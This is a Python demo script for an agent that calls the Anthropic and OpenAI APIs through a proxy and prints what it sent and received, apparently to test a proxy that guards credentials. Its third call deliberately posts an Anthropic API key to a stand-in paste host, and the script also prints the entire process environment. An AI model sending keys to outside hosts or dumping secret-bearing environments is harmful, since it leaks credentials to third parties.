"""The demo's agent: a program that knows the standard library and its environment, nothing else.

It runs as a process of its own and prints, as JSON, what it sent and what it got.
"""

from __future__ import annotations

import http.client
import json
import os
import ssl
import sys
from urllib.parse import urlsplit

TIMEOUT_SECONDS = 20


def call(url: str, headers: dict[str, str], question: str) -> dict[str, object]:
    """Send a question as JSON through the proxy that the environment names."""
    body = json.dumps({"messages": [{"role": "user", "content": question}]})
    headers = {**headers, "Content-Type": "application/json"}
    proxy, target = urlsplit(os.environ["HTTPS_PROXY"]), urlsplit(url)
    # The default context reads SSL_CERT_FILE, as every Python program does.
    context = ssl.create_default_context()
    connection = http.client.HTTPSConnection(
        proxy.hostname or "", proxy.port, timeout=TIMEOUT_SECONDS, context=context
    )
    connection.set_tunnel(target.hostname or "", 443)
    sent = {"method": "POST", "url": url, "headers": headers, "body": body}
    try:
        connection.request("POST", target.path, body, headers)
        response = connection.getresponse()
        status, got = response.status, response.read().decode()
        explained = response.headers.get("Proxy-Status")
    except OSError as error:
        answer = connection.get_proxy_response_headers()
        status, got = None, str(error)
        explained = answer.get("Proxy-Status") if answer else None
    finally:
        connection.close()
    return {"sent": sent, "status": status, "got": got, "proxy_status": explained}


def main() -> None:
    """Call a provider, another one, and a host that is none of the agent's business."""
    claude, gpt = os.environ["ANTHROPIC_API_KEY"], os.environ["OPENAI_API_KEY"]
    calls = [
        call("https://api.anthropic.com/v1/messages", {"x-api-key": claude}, "PING"),
        call(
            "https://api.openai.com/v1/chat/completions",
            {"Authorization": f"Bearer {gpt}"},
            "PING",
        ),
        call("https://paste.example/new", {"x-api-key": claude}, "a key for everybody"),
    ]
    sys.stdout.write(json.dumps({"environment": dict(os.environ), "calls": calls}))


if __name__ == "__main__":
    main()
